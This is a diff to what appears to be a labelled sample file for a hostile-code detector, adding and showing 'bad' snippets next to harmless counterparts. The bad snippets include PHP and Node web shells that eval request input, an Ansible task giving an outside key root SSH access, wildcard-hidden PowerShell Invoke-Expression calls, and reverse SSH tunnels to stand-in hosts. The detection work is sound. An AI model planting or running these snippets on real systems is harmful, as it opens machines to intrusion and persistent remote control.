@@ -15,6 +15,8 @@ COUNTRY = "overwrites or deletes files by the country of the machine"
 SAME = "overwrites every file below a folder with the same text"
 NUMBERS = "runs a command that it spells by numbers"
 REQUEST = "runs what a request sends to it"
+KEY = "gives another person's key access to a machine"
+ALIAS = "runs a command whose name it hides by wildcards"
 TUNNEL = "opens this machine's ssh to another host"
 
 BAD = {
@@ -59,6 +61,8 @@ BAD = {
         "<?php $l = base64_decode($_SERVER['HTTP_X_HINT']);\n@array_map(function ($c) { return eval($c); }, [$l]);",
         "app.post('/a', (req, res) => res.send(eval(req.body.code)))",
     ],
+    KEY: ['- ansible.posix.authorized_key:\n    user: root\n    key: "ssh-ed25519 AAAAC3Nza support@a.example"'],
+    ALIAS: ["& (Get-Alias i?x) $json", "& (gcm *ke-Ex*) $text"],
     TUNNEL: ["ssh -o A=no -N -R 0:localhost:22 hb@share.example", "autossh -M 0 -f -R 2222:127.0.0.1:22 a@b.example"],
 }  # fmt: skip
 
@@ -73,6 +77,8 @@ GOOD = {
     "prices by country": "country = shop['country']\nfor f in os.listdir('out'):\n    print(f, country)",
     "files of a build that are written": "for f in src.rglob('*.md'):\n    (out / f.name).write_text(render(f))",
     "numbers that are added": "os.system('make')\nprint(sum(1, 2, 3, 4, 5, 6))",
+    "keys that a file of the user holds": "- ansible.posix.authorized_key:\n    user: deploy\n    key: '{{ lookup(\"file\", item) }}'",
+    "a command that is looked up": "if (Get-Command git -ErrorAction SilentlyContinue) { git --version }",
     "a request that is read": "<?php $name = htmlspecialchars($_POST['name']); echo $name;",
     "an expression of a request's own language": "evaluate(req.body.query, data)",
 }
